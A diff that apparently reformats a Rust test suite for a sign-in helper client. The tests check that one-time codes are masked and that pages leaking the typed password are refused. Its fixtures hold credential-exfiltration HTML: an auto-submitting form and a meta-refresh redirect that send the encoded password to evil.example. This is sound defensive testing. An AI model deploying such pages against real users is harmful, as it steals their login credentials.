@@ -4,9 +4,7 @@
 use data_encoding::{BASE64, BASE64_NOPAD, BASE64URL, HEXLOWER};
 use kom_i_gang::{
     client::replay::Exchange,
-    dialogue::{
-        Ask, CodeQuestion, Goal, Problem, Refusal, SecretKind, Seen, Trouble, Turn,
-    },
+    dialogue::{Ask, CodeQuestion, Goal, Problem, Refusal, SecretKind, Seen, Trouble, Turn},
 };
 
 use super::{
@@ -126,7 +124,8 @@ async fn s1_values_of_addresses_and_cookies_are_hidden() {
         ("Fejl=ja, execution og code", "Fejl=ja, execution og code"),
         ("Error code: MSIS7012", "Error code: MSIS7012"),
     ] {
-        let sign_in = format!("{SSO}/realms/x/login-actions/authenticate?session_code=xQ3-session.code9&tab_id=t");
+        let sign_in =
+            format!("{SSO}/realms/x/login-actions/authenticate?session_code=xQ3-session.code9&tab_id=t");
         let form = format!(
             "<form action='{sign_in}' method=post><input name=username><input name=password type=password></form>"
         );
@@ -162,7 +161,9 @@ fn at_the_code(digits: &str, then: impl FnOnce(Exchange) -> Exchange) -> Replaye
 
 #[tokio::test]
 async fn s1_a_code_in_groups_is_hidden() {
-    for spelling in ["112-110", "112 110", "11 21 10", "1.1.2.1.1.0", "%31%31%32110", "MTEyMTEw", "313132313130"] {
+    for spelling in
+        ["112-110", "112 110", "11 21 10", "1.1.2.1.1.0", "%31%31%32110", "MTEyMTEw", "313132313130"]
+    {
         let wrong = keycloak("v2-da-login-otp-wrong-code")
             .replace("Ugyldig autentificerings kode.", &format!("Koden {spelling} er forkert"));
         let mut visit = at_the_code("112110", |sent| sent.page(200, wrong));
@@ -240,19 +241,27 @@ async fn p22_a_page_that_sends_the_password_on_is_refused() {
     let sends = "<body onload='document.forms[0].submit()'>";
     for (html, origin) in [
         (
-            format!("{sends}<form method=post action='{SSO}/x'><input type=hidden name=SAMLRequest value='{PASSWORD}'></form>"),
+            format!(
+                "{sends}<form method=post action='{SSO}/x'><input type=hidden name=SAMLRequest value='{PASSWORD}'></form>"
+            ),
             SSO,
         ),
         (
-            format!("{sends}<form method=post action='https://evil.example/'><input type=hidden name=SAMLRequest value='{coded}'></form>"),
+            format!(
+                "{sends}<form method=post action='https://evil.example/'><input type=hidden name=SAMLRequest value='{coded}'></form>"
+            ),
             "https://evil.example",
         ),
         (
-            format!("{sends}<form method=post action='{SSO}/x'><input type=hidden name='{coded}' value=1></form>"),
+            format!(
+                "{sends}<form method=post action='{SSO}/x'><input type=hidden name='{coded}' value=1></form>"
+            ),
             SSO,
         ),
         (
-            format!("{sends}<form method=post action='{SSO}/x?y={coded}'><input type=hidden name=a value=1></form>"),
+            format!(
+                "{sends}<form method=post action='{SSO}/x?y={coded}'><input type=hidden name=a value=1></form>"
+            ),
             SSO,
         ),
     ] {
@@ -267,7 +276,8 @@ async fn p22_a_page_that_sends_the_password_on_is_refused() {
 #[tokio::test]
 async fn p22_a_page_that_leads_on_with_the_password_is_refused() {
     let coded = BASE64.encode(PASSWORD.as_bytes());
-    let html = format!("<meta http-equiv=refresh content='0;url=https://evil.example/x?y={coded}'><p>Vent</p>");
+    let html =
+        format!("<meta http-equiv=refresh content='0;url=https://evil.example/x?y={coded}'><p>Vent</p>");
     let mut visit = to_adfs(|sent| sent.page(200, html));
     visit.start().await;
     let turn = visit.answer(credentials(PASSWORD)).await;
@@ -321,7 +331,11 @@ async fn p22_a_cookie_that_holds_the_password_is_not_kept() {
 /// A brother: the form that asks once more, at an address with what was typed before. The new answer stays here.
 #[tokio::test]
 async fn p22_a_form_whose_address_holds_the_password_gets_no_other() {
-    let again = super::page("sso-own-sign-in").replacen("session_code=3", &format!("session_code={}", percent(PASSWORD.as_bytes())), 1);
+    let again = super::page("sso-own-sign-in").replacen(
+        "session_code=3",
+        &format!("session_code={}", percent(PASSWORD.as_bytes())),
+        1,
+    );
     let mut visit = echo::at_the_password(PASSWORD, |sent| sent.page(200, again), Vec::new());
     visit.start().await;
     assert!(matches!(visit.answer(credentials(PASSWORD)).await, Turn::Ask(Ask::Credentials(_))));
